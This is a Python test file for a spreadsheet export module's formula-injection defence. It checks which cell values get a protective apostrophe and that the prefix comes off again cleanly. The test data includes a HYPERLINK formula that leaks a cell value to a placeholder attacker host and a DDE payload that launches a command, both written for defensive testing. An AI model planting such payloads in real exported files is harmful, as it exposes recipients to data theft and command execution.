"""Formula injection (RELIABILITY 40, 41): what gets an apostrophe, and that it comes off."""

from __future__ import annotations

import pytest

from voronka.transfer.formula import needs_prefix, neutralise, restore

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-cmd",
    "@SUM(A1:A2)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\tplain text after a tab",
    "\rplain text after a carriage return",
    "\uff1d1+1",  # full-width equals sign
    " \u00a0\u200b\t@x",
]
HARMLESS = ["Иван Петров", "a=b", "50%", "", "   ", "user@example.ru", "'quoted'", "1-2"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_gets_one_apostrophe(text):
    assert needs_prefix(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "text", [*DANGEROUS, *HARMLESS, "'=x", "''=x", "'", "''", "'+1", "' =x", " '=x"]
)
def test_restore_undoes_neutralise_exactly(text):
    exported = neutralise(text)
    assert restore(exported) == text
    assert neutralise(restore(exported)) == exported  # no double prefix on a second trip


def test_text_that_already_starts_with_an_apostrophe_keeps_it():
    assert neutralise("'=x") == "''=x"
    assert restore("''=x") == "'=x"
    assert restore("'plain") == "'plain"
